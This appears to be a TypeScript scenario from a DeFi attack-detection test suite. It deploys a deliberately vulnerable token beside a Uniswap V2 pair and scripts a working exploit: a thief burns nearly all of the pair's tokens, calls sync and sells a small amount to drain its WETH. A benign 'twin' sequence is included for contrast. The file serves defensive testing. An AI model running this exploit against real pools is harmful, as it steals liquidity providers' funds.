import { maxUint256, parseEther } from 'viem'
import { readArtifact } from '../../artifact.ts'
import { readPackaged } from '../readPackaged.ts'
import type { Scenario } from '../scenario.ts'

export const burnHole: Scenario = {
  name: 'pair-burned-empty',
  theme: 'value',
  attack:
    'A token lets anybody burn what a pair holds: a thief burns nearly all of it, and sells a little for the rest.',
  twin: 'A large holder sells, and whoever provided most of the liquidity takes it out.',

  async build({ deploy, call, accounts, read, mine }) {
    const [deployer, ana, ben] = accounts
    const thief = accounts[20]!
    const code = (name: string) => readPackaged('@uniswap/v2-core', `build/${name}.json`)
    const token = await deploy(readArtifact('BurnHoleToken'), { args: [parseEther('1000000')] })
    const weth = await deploy(readPackaged('@uniswap/v2-periphery', 'build/WETH9.json'))
    const factory = await deploy(code('UniswapV2Factory'), { args: [deployer] })
    await call(factory, 'createPair', [token.address, weth.address])
    const address = await read<`0x${string}`>(factory, 'getPair', [token.address, weth.address])
    const pair = { address, abi: code('UniswapV2Pair').abi }
    const isFirst = (await read<string>(pair, 'token0')).toLowerCase() === token.address.toLowerCase()

    async function provide(from: `0x${string}`, tokens: string, coins: string) {
      await call(token, 'transfer', [address, parseEther(tokens)], { from })
      await call(weth, 'deposit', [], { from, value: parseEther(coins) })
      await call(weth, 'transfer', [address, parseEther(coins)], { from })
      await call(pair, 'mint', [from], { from })
    }
    /** Sells tokens for what the pair gives for them. */
    async function sell(from: `0x${string}`, amount: bigint) {
      const reserves = await read<[bigint, bigint, number]>(pair, 'getReserves')
      const [tokens, coins] = isFirst ? reserves : [reserves[1], reserves[0]]
      const out = (amount * 997n * coins) / (tokens * 1000n + amount * 997n)
      await call(token, 'transfer', [address, amount], { from })
      await call(pair, 'swap', isFirst ? [0n, out, from, '0x'] : [out, 0n, from, '0x'], { from })
    }

    for (const user of [ana!, ben!, thief]) await call(token, 'transfer', [user, parseEther('50000')])
    await provide(deployer!, '100000', '100')
    await provide(ana!, '30000', '30')
    await call(pair, 'approve', [address, maxUint256], { from: deployer! })
    return {
      protect: [address],
      victims: [address],
      async ordinary() {
        for (const amount of ['40', '210', '5']) {
          await sell(ben!, parseEther(amount))
          await mine(4)
        }
      },
      async attack() {
        const held = await read(token, 'balanceOf', [address])
        await call(token, 'burn', [address, held - parseEther('1')], { from: thief })
        await call(pair, 'sync', [], { from: thief })
        await sell(thief, parseEther('20000'))
      },
      async twin() {
        await sell(ben!, parseEther('30000'))
        await mine(3)
        const shares = await read(pair, 'balanceOf', [deployer])
        await call(pair, 'transfer', [address, shares], { from: deployer! })
        await call(pair, 'burn', [deployer], { from: deployer! })
      },
    }
  },
}
